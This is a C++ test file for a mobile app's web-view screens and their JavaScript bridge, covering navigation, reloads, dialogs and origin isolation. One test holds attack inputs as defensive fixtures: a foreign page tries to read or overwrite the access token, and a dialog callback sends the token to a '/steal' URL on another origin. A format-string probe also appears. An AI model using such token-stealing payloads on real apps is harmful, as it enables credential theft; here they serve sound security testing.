// The web screens and their bridge, driven from the sample pages of the stand-in back end.
#include "app/screens/tests/WebScreenFixture.h"
#include "app/tools/SaveService.h"
#include "platform/foundation/Console.h"
#include "platform/uikit/UIActionSheet.h"
#include "platform/uikit/UIAlertView.h"
#include "refresh/PRRefreshHeader.h"
#include "testsupport/LoopbackServer.h"

namespace {

[[maybe_unused]] const auto* const kSandbox = ::testing::AddGlobalTestEnvironment(new AppSandbox());

using WebScreens = WebScreenTest;

TEST_F(WebScreens, BridgeCallsFromThePageOpenScreensOnTheMainQueue) {
    // Afterwards: "main", or the top screen's title, whether it is a web screen ("bare" without a bar) and
    // its page of the back end; whether the user is signed out.
    const struct {
        const char* script;
        const char* shown;
    } cases[] = {
        {"openDetail()", "Detail web detail.html"},
        {"openDetailBare()", " web bare detail.html"},
        {"openSettings()", "SettingViewController"},
        {"openSignIn()", "LoginViewController signed out"},
        {"signOut()", "LoginViewController signed out"},
        {"openNothing(); app.push('', 'quorvane://open?mode'); app.push('', 'quorvane://open?mode=9');"
         "app.push('Files', 'ftp://example.com/')",
         "main"},
        {"openDialogs()", " web bare dialogs.html"},
        // Only an address a screen can load is pushed.
        {"app.pushWithUrl(''); app.pushWithUrl(null); app.pushWithUrl('ftp://example.com/');"
         "app.pushWithUrl('http://'); app.pushWithUrl('detail.html')",
         "main"},
        // "sarnquil://" addresses are never loaded; "login" signs out.
        {"location.href = 'sarnquil://elsewhere'", "main"},
        {"location.href = 'sarnquil://login'", "LoginViewController signed out"},
    };
    showMainScreen();
    auto main = top();
    for (const auto& c : cases) {
        SCOPED_TRACE(c.script);
        SaveService::setObject(Value("token-1"), kSaveServiceAccessTokenKey);
        top()->webView()->stringByEvaluatingJavaScriptFromString(c.script);
        EXPECT_EQ(navigation_->viewControllers().size(), 1u);  // not before the main queue turns
        // A navigation reaches the screen once the page's timer has run.
        until([&] { return !strstr(c.script, "sarnquil") || strstr(c.script, main->urlStr().c_str()); });
        settle();
        auto shown = navigation_->topViewController();
        auto web = std::dynamic_pointer_cast<UrlMainViewController>(shown);
        std::string seen = shown == main ? "main" : shown->title();
        if (web)
            seen += std::string(" web ") + (web->isHideNav() ? "bare " : "") +
                    web->urlString().substr(pageURL("").size());
        if (storedString(kSaveServiceAccessTokenKey) == "") seen += " signed out";
        EXPECT_EQ(seen, c.shown);
        EXPECT_EQ(bool(shown->navigationItem()->leftBarButtonItem()), shown != main);  // the back button
        EXPECT_EQ(navigation_->isNavigationBarHidden(), !web || web->isHideNav());
        EXPECT_TRUE(!web || web->delegate() == std::static_pointer_cast<AppBaseDelegate>(main));
        navigation_->popToRootViewControllerAnimated(Animated::No);
        settle();
        EXPECT_EQ(main->webView()->documentURL(), pageURL("#/"));
    }
}

// A page reloads when asked (refresh, a pull, going back after setIsRefresh) and only then.
TEST_F(WebScreens, PagesReloadOnlyWhenAsked) {
    // `depth` screens are opened above the main one first, then the script runs and the finger pulls the
    // page down or taps the back button; `reloaded` is the page reloaded, if any.
    enum Finger { None, Pull, Back };
    const struct {
        const char* name;
        int depth;
        const char* script;
        Finger finger;
        const char* reloaded;
    } cases[] = {
        {"refresh", 0, "reloadPage()", None, "/vqd_web/"},
        {"pull", 0, "", Pull, "/vqd_web/"},
        {"pull after stopSwipeRefresh", 0, "stopPull()", Pull, nullptr},
        {"pop", 1, "back()", None, nullptr},
        {"pop with refresh", 1, "backAndRefresh()", None, "/vqd_web/"},
        {"back button with refresh", 1, "app.setIsRefresh(true)", Back, "/vqd_web/"},
        {"popToRoot with refresh", 2, "homeAndRefresh()", None, "/vqd_web/detail.html"},
    };
    showMainScreen();
    auto main = top();
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        std::vector<BaseViewControllerPtr> opened;  // kept, so that a reload asked of a popped screen runs
        for (const char* open : {"openDetail()", "deeper()"}) {
            if (int(opened.size()) == c.depth) break;
            auto opener = top();
            run(open);
            ASSERT_TRUE(waitForPage(top()));
            EXPECT_EQ(top()->delegate(), std::static_pointer_cast<AppBaseDelegate>(opener));
            opened.push_back(top());
        }
        const auto hits = [&](const char* path) {  // of the page, or of all pages
            return path ? server_->hits(path)
                        : server_->hits("/vqd_web/") + server_->hits("/vqd_web/detail.html");
        };
        const size_t before = hits(c.reloaded);
        if (*c.script) run(c.script);
        if (c.finger == Pull) top()->webView()->scrollView()->drag({0, 120}, 4);
        if (c.finger == Back) top()->navigationItem()->leftBarButtonItem()->sendAction();
        settle();
        EXPECT_EQ(navigation_->viewControllers().size(), 1u);
        // A reload would reach the server within a second.
        EXPECT_EQ(
            NSRunLoop::main().runUntil([&] { return hits(c.reloaded) > before; }, c.reloaded ? kPageWait : 1),
            c.reloaded != nullptr);
        ASSERT_TRUE(waitForPage(main));
        EXPECT_EQ(pr_header(main->webView()->scrollView())->state(), PRRefreshState::Idle);
    }
}

// The token and the stored values serve the back end's own pages only: a page of another origin reads
// nothing, writes nothing, cannot sign the user out and cannot have a dialog's answer run in the back end's
// page it navigates to.
TEST_F(WebScreens, StoredValuesAndTheTokenServeOnlyTheBackEndsOwnPages) {
    auto other = startDevServer();  // another origin: the same pages on another port
    // The script runs in a page of the back end or of the other origin; `key` (if any) then holds `stored`.
    const struct {
        bool foreign;
        const char* script;
        const char* result;
        const char* key;
        const char* stored;
    } cases[] = {
        {false, "String(app.getAccessToken())", "null", nullptr, nullptr},
        {false, "app.setWebCash('greeting', 'hello'); app.getWebCash('greeting')", "hello", "greeting",
         "hello"},
        {false, "app.setWebCash('a.b', '1'); app.getWebCash('a.b')", "1", "a.b", "1"},
        {false, "app.setWebCash('AccessToken', 'tok')", "", "AccessToken", "tok"},
        {false, "String(app.getAccessToken())", "tok", "AccessToken", "tok"},
        {true, "String(app.getAccessToken())", "null", "AccessToken", "tok"},
        {true, "app.setWebCash('AccessToken', 'evil'); app.getWebCash('AccessToken')", "", "AccessToken",
         "tok"},
        {true, "app.setWebCash('planted', 'x')", "", "planted", nullptr},
        {true, "app.toLogin()", "", "AccessToken", "tok"},
        {true, "location.href = 'sarnquil://login'", "sarnquil://login", nullptr, nullptr},
    };
    showMainScreen();
    auto main = top();
    run("app.pushWithUrl('" + other->url("/vqd_web/storage.html") + "')");
    auto foreign = top();
    ASSERT_TRUE(foreign != main && waitForPage(foreign));
    for (const auto& c : cases) {
        SCOPED_TRACE(c.script);
        auto screen = c.foreign ? foreign : main;
        EXPECT_EQ(screen->webView()->stringByEvaluatingJavaScriptFromString(c.script), c.result);
        settle();
        if (c.key) {
            EXPECT_EQ(storedString(c.key), c.stored ? std::optional<std::string>(c.stored) : std::nullopt);
        }
    }
    ASSERT_TRUE(until([&] { return foreign->urlStr() == "sarnquil://login"; }));
    settle();
    EXPECT_EQ(storedString(kSaveServiceAccessTokenKey), "tok");
    EXPECT_EQ(navigation_->viewControllers().size(), 2u);

    // The foreign page's dialog is answered once its screen shows the back end's page: the answer is dropped.
    Console::Capture capture;
    run("app.alert('Win', '', 'No', 'Yes', \"new Image().src = '" + other->url("/steal") +
        "?t=' + app.getAccessToken()\"); location.href = '" + pageURL("storage.html") + "'");
    ASSERT_TRUE(until([&] { return foreign->webView()->documentURL() == pageURL("storage.html"); }));
    ASSERT_TRUE(until([&] { return !foreign->webView()->isLoading(); }));
    ASSERT_TRUE(UIDialogs::press(1));
    settle();
    EXPECT_EQ(run("String(app.getAccessToken())"), "tok");
    EXPECT_EQ(other->hits("/steal"), 0u);
    EXPECT_TRUE(capture.contains("dropped"));
}

TEST_F(WebScreens, ADialogClickRunsTheLatestCallbackInThePage) {
    // The dialog as "title: buttons"; `presses` go in turn to the dialog then showing; `answer` is
    // lastDialog + " " + lastChoice afterwards.
    const struct {
        const char* ask;
        const char* dialog;
        const char* presses;
        const char* answer;
    } cases[] = {
        {"askAlert()", "Delete draft: Cancel|Delete", "1", "alert 1"},
        {"askSheet()", "Share: Remove|Copy link|Cancel", "2", "sheet 2"},
        {"askQuietly()", "Notice: Close|OK", "1", " null"},
        {"app.alert('A', '', 'No', 'Yes', 'choose(\"first\", %@)');"
         "app.alert('A', '', 'No', 'Yes', 'choose(\"second\", %@)')",
         "A: No|Yes", "10", "second 0"},
        {"app.alert('T', 'm', null, 'Yes', 'choose(\"nocancel\", %@)')", "T: Yes", "0", "nocancel 0"},
        {"app.alert('T', 'm', null, null, 'choose(\"bare\", %@)')", "T: 确定", "0", "bare 0"},
        {"app.actionSheet('S', null, null, null, 'choose(\"bare sheet\", %@)')", "S: 确定", "0",
         "bare sheet 0"},
        {"tip()", "提示: 确定", "0", " null"},
        // The clicked index goes in for "%@"; the page's text is never read as a format.
        {"app.alert('F', '', null, 'Go', 'choose(\"%%@ %d %s %n %1$@\", %@)')", "F: Go", "0",
         "%@ %d %s %n %1$@ 0"},
    };
    showMainScreen();
    run("openDialogs()");
    ASSERT_TRUE(waitForPage(top()));
    for (const auto& c : cases) {
        SCOPED_TRACE(c.ask);
        run("lastDialog = ''; lastChoice = null;");
        run(c.ask);
        for (const char* press = c.presses; *press; ++press) {
            ASSERT_TRUE(UIDialogs::visible());
            std::string shown = UIDialogs::visible()->dialogTitle() + ":";
            for (auto& title : UIDialogs::buttonTitles()) shown += (shown.back() == ':' ? " " : "|") + title;
            EXPECT_EQ(shown, c.dialog);
            ASSERT_TRUE(UIDialogs::press(*press - '0'));
            settle();
        }
        EXPECT_FALSE(UIDialogs::visible());
        EXPECT_EQ(run("lastDialog + ' ' + lastChoice"), c.answer);
    }
}

// The HUD's loading count goes back whether a page's load fails or its screen is let go mid-load.
TEST_F(WebScreens, APageLoadThatFailsOrIsLeftTakesItsLoadOffTheHUD) {
    LoopbackServer stalled;
    LoopbackReply never = LoopbackReply::text("");
    never.delay = 60;
    stalled.reply("/never", never);
    std::string refused;
    {
        LoopbackServer gone;
        refused = gone.url("/page");
    }
    auto hud = THProgressHUD::shareInstancetype();
    std::vector<std::shared_ptr<UrlMainViewController>> screens;
    for (auto& url : {refused, stalled.url("/never"), stalled.url("/never"), refused}) {
        screens.push_back(UrlMainViewController::create());
        screens.back()->setUrlString(url);
        screens.back()->loadViewIfNeeded();
    }
    // The refused loads fail while their screens stay; the stalled ones are left by closing their screens.
    ASSERT_TRUE(until([&] { return hud->loadingCount() == 2 && !screens[0]->webView()->isLoading(); }));
    EXPECT_TRUE(until([&] { return !screens[3]->webView()->isLoading(); }));
    EXPECT_EQ(hud->loadingCount(), 2);
    for (int left : {1, 0, 0}) {
        screens.erase(screens.begin() + 1);
        EXPECT_EQ(hud->loadingCount(), left);
    }
    EXPECT_EQ(hud->state(), THProgressHUDState::Idle);
}

}  // namespace
